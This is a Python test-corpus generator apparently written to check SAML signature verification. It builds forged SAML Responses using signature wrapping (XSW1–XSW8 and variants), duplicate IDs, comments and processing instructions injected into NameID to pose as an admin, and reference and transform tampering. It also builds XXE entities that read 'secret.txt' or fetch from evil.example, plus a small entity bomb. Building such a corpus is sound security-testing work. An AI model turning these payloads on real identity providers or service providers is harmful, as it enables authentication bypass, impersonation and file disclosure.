"""Attacks on documents that were truly signed. Texts are cut and joined, never parsed and written again, so that
what was signed stays as it was to the byte."""
from documents import *
from documents import lean_response as response

A, R, EVIL = ASSERTION_ID, RESPONSE_ID, "_evil"


def honest(info="", **kw):
    """A Response whose assertion is signed. Without KeyInfo, unless given: there are many files."""
    return sign(response(assertion(signature_of(A, info=info), lean="most"), **kw))


def part(doc, name):
    """The first element of that name, up to its last end tag."""
    return re.search(rf"<{name}[ >].*</{name}>", doc, re.S)[0]


def without_signature(text):
    return text.replace(part(text, "ds:Signature"), "")


def evil(text, old=A):
    """The same for another person under another ID."""
    return text.replace(f'ID="{old}"', f'ID="{EVIL}"', 1).replace("kim@strawberry.dev</saml2:NameID>", "admin@strawberry.dev</saml2:NameID>")


def into(text, inner, before):
    """text with inner before the last occurrence of before."""
    at = text.rindex(before)
    return text[:at] + inner + text[at:]


def put(name, doc, about, signer="okta"):
    write(f"attacks/{name}.xml", doc, about, signer)


def wrapping():
    """The eight of "On Breaking SAML: Be Whoever You Want to Be" (2012), numbered as SAML Raider does."""
    info = key_info("okta", width=0)
    doc = sign(response(assertion(lean="most"), signature_of(R, info=info)))
    root = part(doc, "saml2p:Response")
    sig = part(root, "ds:Signature")
    clean = without_signature(root)
    head = doc[:doc.index("<saml2p:Response")]
    forged = evil(root, R).replace(f'ID="{A}"', 'ID="_inner"')
    put("xsw1", head + forged.replace(sig, sig.replace("</ds:Signature>", clean + "</ds:Signature>")) + "\n",
        "XSW1: forged Response; its Signature holds the original Response")
    put("xsw2", head + forged.replace(sig, clean + sig) + "\n", "XSW2: forged Response; original Response before the Signature")

    doc = honest(info)
    a = part(doc, "saml2:Assertion")
    sig = part(a, "ds:Signature")
    clean = without_signature(a)
    put("xsw3", doc.replace(a, evil(clean) + a), "XSW3: forged assertion before the signed one")
    put("xsw4", doc.replace(a, into(evil(clean), a, "</saml2:Assertion>")), "XSW4: the signed assertion inside of the forged one")
    forged = evil(a)
    put("xsw5", doc.replace(a, forged + clean), "XSW5: forged assertion with the Signature; the original at the end of the Response")
    put("xsw6", doc.replace(a, forged.replace(sig, sig.replace("</ds:Signature>", clean + "</ds:Signature>"))),
        "XSW6: forged assertion with the Signature, which holds the original")
    put("xsw7", doc.replace("<saml2p:Status", f"<saml2p:Extensions>{evil(clean)}</saml2p:Extensions><saml2p:Status", 1),
        "XSW7: forged assertion in Extensions")
    put("xsw8", doc.replace(a, forged.replace(sig, sig.replace("</ds:Signature>", f"<ds:Object>{clean}</ds:Object></ds:Signature>"))),
        "XSW8: forged assertion with the Signature, whose Object holds the original")

    # The same where the transform enveloped-signature is not among what was signed: then xmlsec1 is satisfied by all.
    loose = lambda id: template(reference("#" + id, transforms=transform(EXC)), info=info)
    doc = sign(response(loose(A) + assertion(lean="most")))
    a, sig = part(doc, "saml2:Assertion"), part(doc, "ds:Signature")
    rest = doc.replace(a, "").replace(sig, "%s")
    with_sig = evil(a).replace("<saml2:Subject>", "%s<saml2:Subject>")
    put("xsw6-loose", rest % (with_sig % sig.replace("</ds:Signature>", a + "</ds:Signature>")),
        "XSW6 with a signature that was not enveloped")
    put("xsw8-loose", rest % (with_sig % sig.replace("</ds:Signature>", f"<ds:Object>{a}</ds:Object></ds:Signature>")),
        "XSW8 with a signature that was not enveloped")
    put("detached", doc, "no forgery: the assertion's Signature stands beside it in the Response, in the wrong parent")
    both = response(assertion(signature_of(A, info=info), lean="most"), signature_of(R, info=info))
    both = sign(sign(both, n=2), n=1)
    a = part(both, "saml2:Assertion")
    put("xsw3-both", both.replace(a, evil(without_signature(a)) + a), "XSW3 where the Response was signed too: that signature fails", ["okta", "okta"])


def variants():
    doc = honest()
    a = part(doc, "saml2:Assertion")
    sig = part(a, "ds:Signature")
    clean = without_signature(a)
    forged = evil(clean)
    same = forged.replace(EVIL, A)
    head, root = doc[:doc.index("<saml2p:Response")], part(doc, "saml2p:Response")

    put("second-after", doc.replace(a, a + forged), "a second, unsigned assertion behind the signed one")
    put("second-in-advice", doc.replace(a, forged.replace("</saml2:Conditions>", f"</saml2:Conditions><saml2:Advice>{a}</saml2:Advice>")), "the signed assertion in the Advice of a forged one")
    put("duplicate-id", doc.replace(a, same + a), "forged assertion with the ID of the signed one, first")
    put("duplicate-id-after", doc.replace(a, a + same), "forged assertion with the ID of the signed one, last")
    put("duplicate-id-response", doc.replace(f'ID="{R}"', f'ID="{A}"'), "Response and assertion have one ID")
    put("duplicate-id-object", doc.replace(a, same.replace("<saml2:Subject>", sig.replace(
        "</ds:Signature>", f"<ds:Object>{clean}</ds:Object></ds:Signature>") + "<saml2:Subject>")),
        "forged assertion with the signed one's ID; the original in Object")
    put("id-lower-case", doc.replace(a, same.replace(' ID="', ' Id="') + a), "forged assertion with the ID in an attribute called Id")
    put("id-xml", doc.replace(a, forged.replace(f'ID="{EVIL}"', f'ID="{EVIL}" xml:id="{A}"') + a), "forged assertion with the ID in xml:id beside its own")
    put("two-signatures", doc.replace(a, a.replace(sig, sig + sig)), "two Signatures in one assertion", ["okta", "okta"])
    put("signature-last", doc.replace(a, a.replace(sig, "").replace("</saml2:Assertion>", sig + "</saml2:Assertion>")),
        "the Signature is the assertion's last child: verifies, but the schema has it behind Issuer")
    put("signature-in-subject", doc.replace(a, a.replace(sig, "").replace("<saml2:Subject>", "<saml2:Subject>" + sig)), "the Signature is a grandchild of what it signs")
    put("signature-in-status", doc.replace(a, clean).replace("</saml2p:Status>", sig + "</saml2p:Status>"), "the Signature is in Status")
    put("signature-in-extensions", doc.replace(a, clean).replace("<saml2p:Status", f"<saml2p:Extensions>{sig}</saml2p:Extensions><saml2p:Status", 1), "the Signature is in Extensions")
    put("signature-in-attribute", sign(response(assertion(lean="most", attributes=attribute("x", signature_of(A))))),
        "the Signature is inside an AttributeValue, and verifies")
    put("extensions-original", doc.replace(a, forged).replace("<saml2p:Status", f"<saml2p:Extensions>{a}</saml2p:Extensions><saml2p:Status", 1),
        "the signed assertion in Extensions, a forged one in its place")
    put("status-detail", doc.replace(a, forged).replace("</saml2p:Status>", f"<saml2p:StatusDetail>{a}</saml2p:StatusDetail></saml2p:Status>"),
        "the signed assertion in StatusDetail, a forged one in its place")
    put("object-original", doc.replace(a, evil(a).replace(sig, sig.replace("</ds:Signature>", f"<ds:Object>{a}</ds:Object></ds:Signature>"))),
        "forged assertion; the original with its Signature in the Object of a copy", ["okta", "okta"])
    put("attribute-value", doc.replace(a, forged.replace("</saml2:Assertion>", f'<saml2:AttributeStatement><saml2:Attribute Name="x"><saml2:AttributeValue>{a}'
        "</saml2:AttributeValue></saml2:Attribute></saml2:AttributeStatement></saml2:Assertion>")), "the signed assertion as an attribute's value of a forged one")
    put("response-in-response", head + into(evil(without_signature(root), R).replace(f'ID="{A}"', 'ID="_inner"'), root, "</saml2p:Response>") + "\n", "Response within a Response")
    put("response-in-extensions", head + evil(without_signature(root), R).replace(f'ID="{A}"', 'ID="_inner"').replace(
        "<saml2p:Status", f"<saml2p:Extensions>{root}</saml2p:Extensions><saml2p:Status", 1) + "\n", "Response in the Extensions of another")
    put("assertion-in-foreign", doc.replace(a, forged + f'<x:box xmlns:x="urn:example:x">{a}</x:box>'), "the signed assertion in an element of another namespace")
    put("assertion-other-namespace", doc.replace(a, forged.replace(f'xmlns:saml2="{SAML}"', 'xmlns:saml2="urn:oasis:names:tc:SAML:2.0:assertion "') + a),
        "a forged assertion whose namespace has a blank at its end")
    entity = sign(sp_metadata(signature=signature_of("_0d1c7c1b6ff6a5f0"), keys=""), "sp")
    inner = part(entity, "md:EntityDescriptor")
    put("metadata-wrapped", f'{HEAD}<md:EntitiesDescriptor xmlns:md="{MD}">' + without_signature(inner).replace('ID="_0d1c7c1b6ff6a5f0"', 'ID="_evil"').replace(
        ACS, "https://evil.example/acs") + f"<md:Extensions>{inner}</md:Extensions></md:EntitiesDescriptor>\n", "forged metadata; the signed is in Extensions", "sp")
    put("request-wrapped", HEAD + into(authn_request(head="", id="_evil").replace(ACS, "https://evil.example/acs").strip(),
        f"<samlp:Extensions>{part(sign(authn_request(signature_of(REQUEST_ID)), 'sp'), 'samlp:AuthnRequest')}</samlp:Extensions>",
        "</samlp:AuthnRequest>") + "\n", "forged AuthnRequest; the signed is in Extensions", "sp")


def references():
    def made(name, about, *refs, after="", extra="", c=None, place=None, **kw):
        t = template(*refs, after=after)
        if place == "response":
            put(name, sign(response(assertion(lean="most") + extra, t)), about, **kw)
        else:
            put(name, sign(response(assertion(t, lean="most") + extra)), about, **kw)

    thing = f'<ds:Object Id="thing">nothing of worth</ds:Object>'
    made("reference-object", "the reference is to an Object, not to the assertion", reference("#thing", transforms=transform(EXC)), after=thing)
    made("references-two", "two references: to the assertion and to an Object", reference("#" + A), reference("#thing", transforms=transform(EXC)), after=thing)
    made("references-twice", "two references to the same assertion", reference("#" + A), reference("#" + A, DS + "sha1"))
    made("reference-response", "the assertion's Signature refers to the Response", reference("#" + R))
    made("reference-assertion", "the Response's Signature refers to the assertion only", reference("#" + A), place="response")
    made("reference-empty", 'URI="": the whole document', reference(""))
    made("reference-empty-response", 'URI="" on the Response, which is the whole document', reference(""), place="response")
    made("reference-xpointer", "reference by xpointer(id(…))", reference(f"#xpointer(id('{A}'))"))
    made("reference-xpointer-root", "reference by xpointer(/), the whole document", reference("#xpointer(/)"))
    made("reference-manifest", "a Manifest, whose references do not have to hold", reference("#" + A),
         after=f'<ds:Object><ds:Manifest>{reference("#" + A, DS + "sha1")}</ds:Manifest></ds:Object>')
    two = sign(response(assertion(template(reference("#" + A), reference("#_second")), lean="most") + assertion(id="_second", lean="most")))
    put("reference-both-assertions", two, "one Signature with references to two assertions")
    doc = sign(response(assertion(signature_of(A), lean="most")))
    ref = part(doc, "ds:Reference")
    put("reference-none", values(doc.replace(ref, ""), "okta", "-sha256"), "no Reference at all; value by openssl over the SignedInfo that is left")
    put("reference-no-uri", values(doc.replace(f' URI="#{A}"', ""), "okta", "-sha256"), "a Reference without URI; value by openssl")
    put("reference-remote", values(doc.replace(f'"#{A}"', '"https://evil.example/assertion.xml"'), "okta", "-sha256"), "a Reference to another host; value by openssl")
    put("reference-file", values(doc.replace(f'"#{A}"', '"assertion.xml"'), "okta", "-sha256"), "a Reference to a file; value by openssl")
    put("reference-many", values(doc.replace(ref, ref * 40), "okta", "-sha256"), "forty references; value by openssl")
    put("signed-info-twice", doc.replace("<ds:SignatureValue>", part(doc, "ds:SignedInfo").replace(f"#{A}", "#_evil") + "<ds:SignatureValue>"),
        "a second SignedInfo behind the signed one")
    put("signed-info-twice-before", doc.replace("<ds:SignedInfo>", part(doc, "ds:SignedInfo").replace(f"#{A}", "#_evil") + "<ds:SignedInfo>"),
        "a second SignedInfo before the signed one")
    value = re.search(r"<ds:DigestValue>([^<]*)", doc)[1]
    put("digest-comment", doc.replace(value, value + "<!-- " + value[::-1] + " -->"), "a comment inside DigestValue (which parsers read differently)")
    put("digest-twice", doc.replace("</ds:Reference>", f"<ds:DigestValue>{value}</ds:DigestValue></ds:Reference>"), "two DigestValues in the Reference")

    xslt = ('<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/">'
            '<constant/></xsl:template></xsl:stylesheet>')
    made("transform-xslt", "an XSLT transform: everything is the same to it", reference("#" + A, transforms=transform(ENVELOPED)
         + transform("http://www.w3.org/TR/1999/REC-xslt-19991116", xslt) + transform(EXC)))
    made("transform-xpath", "an XPath transform that leaves attributes statements out", reference("#" + A, transforms=transform(ENVELOPED)
         + transform("http://www.w3.org/TR/1999/REC-xpath-19991116", f'<ds:XPath xmlns:saml2="{SAML}">not(ancestor-or-self::saml2:Subject)</ds:XPath>') + transform(EXC)))
    made("transform-xpath-filter", "an XPath filter 2.0 that leaves the Subject out", reference("#" + A, transforms=transform(ENVELOPED)
         + transform("http://www.w3.org/2002/06/xmldsig-filter2", f'<f:XPath xmlns:f="http://www.w3.org/2002/06/xmldsig-filter2" xmlns:saml2="{SAML}" Filter="subtract">//saml2:Subject</f:XPath>') + transform(EXC)))
    made("transform-xpath-enveloped", "enveloped-signature written as XPath, which is harmless and still not allowed", reference("#" + A, transforms=
         transform("http://www.w3.org/TR/1999/REC-xpath-19991116", "<ds:XPath>not(ancestor-or-self::ds:Signature)</ds:XPath>") + transform(EXC)))
    made("transform-base64", "a base64 transform: only the text is signed", reference("#thing", transforms=transform(DS + "base64")),
         after='<ds:Object Id="thing">bm90aGluZw==</ds:Object>')
    made("transform-none", "no Transforms: the Signature is a part of what it signs, so nothing verifies", reference("#" + A, transforms=""))
    unknown = "https://strawberry.dev/transform"
    put("transform-unknown", values(doc.replace(f'Transform Algorithm="{EXC}"', f'Transform Algorithm="{unknown}"'), "okta", "-sha256"), "a transform nobody knows; value by openssl")
    many = transform(EXC) * 30
    made("transform-many", "thirty canonicalizations", reference("#" + A, transforms=transform(ENVELOPED) + many))


def values_and_names():
    def a(sig, **kw):
        return assertion(sig, lean="most", **kw)

    sig = signature_of(A)
    comments = dict(c14n=EXC)
    put("comment-name-id", sign(response(a(sig, name="user@strawberry.dev<!---->.evil.com"))),
        "a comment inside NameID: one parser reads user@strawberry.dev, another all of it")
    put("comment-name-id-added", honest().replace("kim@strawberry.dev</saml2:NameID>", "kim@<!-- x -->strawberry.dev</saml2:NameID>"),
        "a comment put into the NameID after signing: verifies")
    put("comment-attribute", sign(response(a(sig, attributes=attribute("role", "user<!-- -->admin")))), "a comment inside an AttributeValue")
    put("comment-issuer", honest().replace(f"{IDP}</saml2:Issuer>", f"{IDP}<!-- -->.evil.com</saml2:Issuer>", 1), "a comment inside the Issuer of the Response")
    put("comment-audience", sign(response(a(sig).replace(f"<saml2:Audience>{SP}", f"<saml2:Audience>{SP}<!-- -->.evil.com"))), "a comment inside the Audience")
    put("comment-between", honest().replace("<saml2:Conditions", "<!-- harmless --><saml2:Conditions"), "a comment between elements: harmless")
    put("pi-attribute", sign(response(a(sig, attributes=attribute("role", "user<?x y?>admin")))), "a processing instruction inside an AttributeValue")
    put("pi-name-id", sign(response(a(sig, name="user@strawberry.dev<?x?>.evil.com"))), "a processing instruction inside NameID")
    put("pi-between", sign(response(a(sig)).replace("<saml2:Conditions", "<?x y?><saml2:Conditions")), "a processing instruction between elements")
    put("stylesheet-pi", honest(head=HEAD + '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>\n'), "a stylesheet instruction before the root")
    put("cdata-name-id", honest().replace("kim@strawberry.dev</saml2:NameID>", "kim@<![CDATA[strawberry.dev]]></saml2:NameID>"),
        "CDATA put into the NameID after signing: verifies, the text is the same")
    put("element-name-id", sign(response(a(sig, name="user@strawberry.dev<x xmlns=''/>.evil.com"))), "an element inside NameID")
    put("references-name-id", honest().replace("kim@strawberry.dev</saml2:NameID>", "k&#105;m&#64;strawberry.dev</saml2:NameID>"), "character references: harmless, the text is the same")
    put("two-name-ids", sign(response(a(sig).replace("</saml2:NameID>", "</saml2:NameID><saml2:NameID>admin@strawberry.dev</saml2:NameID>"))), "two NameIDs")

    other = "urn:example:other"
    shadow = honest()
    put("prefix-shadowed", sign(response(a(sig, attributes=attribute("x", f'<saml2:Assertion xmlns:saml2="{other}" ID="_x">text</saml2:Assertion>')))),
        "the prefix saml2 is declared anew inside for another namespace")
    put("prefix-shadowed-swapped", sign(response(a(sig)).replace("saml2p:", "x:").replace("xmlns:saml2p=", "xmlns:x=").replace("saml2:", "saml2p:").replace("xmlns:saml2=", "xmlns:saml2p=")),
        "the prefix saml2p is the assertion's namespace: right, and looks wrong")
    put("prefix-ds-shadowed", shadow.replace("<saml2p:Status", f'<ds:Signature xmlns:ds="{other}"><ds:SignedInfo/></ds:Signature><saml2p:Status', 1),
        "an element ds:Signature in another namespace before the true one", [])
    put("prefix-undeclared", response(assertion(lean="most")).replace(f' xmlns:saml2p="{SAMLP}"', "", 1), "the Response's prefix is not declared (xmllint says so and goes on)", [])
    put("namespace-relative", sign(response(a(sig))).replace("<saml2:Subject>", '<saml2:Subject xmlns:y="relative">'),
        "a relative namespace, which canonicalization has to refuse")
    put("attribute-twice-prefix", response(assertion(lean="most")).replace(f'ID="{A}"', f'ID="{A}" a:x="1" b:x="2" xmlns:a="{other}" xmlns:b="{other}"'),
        "one attribute twice by two prefixes: not well-formed as to namespaces", [])
    put("attribute-twice", response(assertion(lean="most")).replace(f'ID="{A}"', f'ID="{A}" ID="{EVIL}"'), "ID twice on one element: not well-formed", [])
    put("attribute-namespaced-id", sign(response(a(sig, attrs=f' e:ID="{EVIL}" xmlns:e="{other}"'))), "a second ID in another namespace, signed")
    put("xml-base", sign(response(a(sig), attrs=' xml:base="https://evil.example/"')), "xml:base on the Response: what is relative seems to be elsewhere")
    put("xml-base-assertion", sign(response(a(sig, attrs=' xml:base="https://evil.example/"'))), "xml:base on the assertion, signed")
    put("nul-reference", response(assertion(name="kim&#0;@strawberry.dev", lean="most")), "a reference to the character 0: not well-formed", [])
    put("control-character", response(assertion(name="kim\x0b@strawberry.dev", lean="most")), "a control character: not well-formed", [])
    put("not-utf8", response(assertion(name="k@m", lean="most")).encode().replace(b"k@m", b"k\xe9m"), "a byte that is not UTF-8", [])
    put("overlong-utf8", response(assertion(name="k@m", lean="most")).encode().replace(b"k@m", b"k\xc0\xaem"), "an overlong UTF-8 sequence", [])
    put("two-roots", response(assertion(lean="most")) + response(assertion(lean="most"), head=""), "two roots", [])
    put("text-after", honest() + "and more text\n", "text behind the root", [])
    put("truncated", honest()[:-200], "cut off in the middle", [])
    put("xml-1.1", response(assertion(lean="most"), head='<?xml version="1.1" encoding="UTF-8"?>\n'), "XML 1.1", [])


def doctypes():
    def typed(name, dtd, about, doc=None, signer="okta"):
        doc = doc or honest()
        put(name, doc.replace("<saml2p:Response", f"<!DOCTYPE {dtd}>\n<saml2p:Response", 1), about, signer)

    value = "kim@strawberry.dev</saml2:NameID>"
    use = lambda name: honest().replace(value, f"&{name};</saml2:NameID>")
    root = "saml2p:Response"
    typed("dtd-empty", root, "a DOCTYPE and nothing in it: the signature verifies")
    typed("dtd-internal-entity", f'{root} [<!ENTITY who "kim@strawberry.dev">]', "an internal entity that gives the text that was signed; xmlsec1 does not put it in", use("who"))
    typed("dtd-internal-entity-other", f'{root} [<!ENTITY who "admin@strawberry.dev">]', "an internal entity that gives another text", use("who"))
    typed("dtd-external-entity", f'{root} [<!ENTITY who SYSTEM "secret.txt">]', "an external entity of a file", use("who"))
    typed("dtd-external-entity-url", f'{root} [<!ENTITY who SYSTEM "https://evil.example/who">]', "an external entity of a URL", use("who"), [])
    typed("dtd-external", f'{root} SYSTEM "https://evil.example/saml.dtd"', "an external DTD", None, [])
    typed("dtd-public", f'{root} PUBLIC "-//EXAMPLE//DTD SAML//EN" "saml.dtd"', "an external DTD by public identifier", None, [])
    typed("dtd-parameter-entity", f'{root} [<!ENTITY % all SYSTEM "all.dtd"> %all;]', "a parameter entity", None, [])
    bomb = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 8 if i else "lol"}">' for i in range(7))
    typed("dtd-bomb", f"{root} [{bomb}]", "an entity bomb of 8^6 words, small on purpose", use("e6"), [])
    loop = '<!ENTITY a "&b;"><!ENTITY b "&a;">'
    typed("dtd-loop", f"{root} [{loop}]", "two entities that hold each other", use("a"), [])
    typed("dtd-attribute-default", f'{root} [<!ATTLIST saml2:NameID Format CDATA "{UNSPECIFIED}" SPNameQualifier CDATA "{SP}">]',
          "default attributes by DTD, which parsers take over or do not")
    typed("dtd-id", f"{root} [<!ATTLIST saml2:Subject ID ID #IMPLIED>]", "another attribute declared to be an identifier")
    typed("dtd-comment", f'{root} [<!-- <!ENTITY x "y"> -->]', "a comment that looks like a declaration")
    put("dtd-lower-case", honest().replace("<saml2p:Response", "<!doctype saml2p:Response>\n<saml2p:Response", 1), "doctype in lower case: not well-formed", [])
    put("entity-undeclared", honest().replace(value, "kim&at;strawberry.dev</saml2:NameID>"), "an entity that nothing declares: not well-formed", [])


def make():
    wrapping()
    variants()
    references()
    values_and_names()
    doctypes()
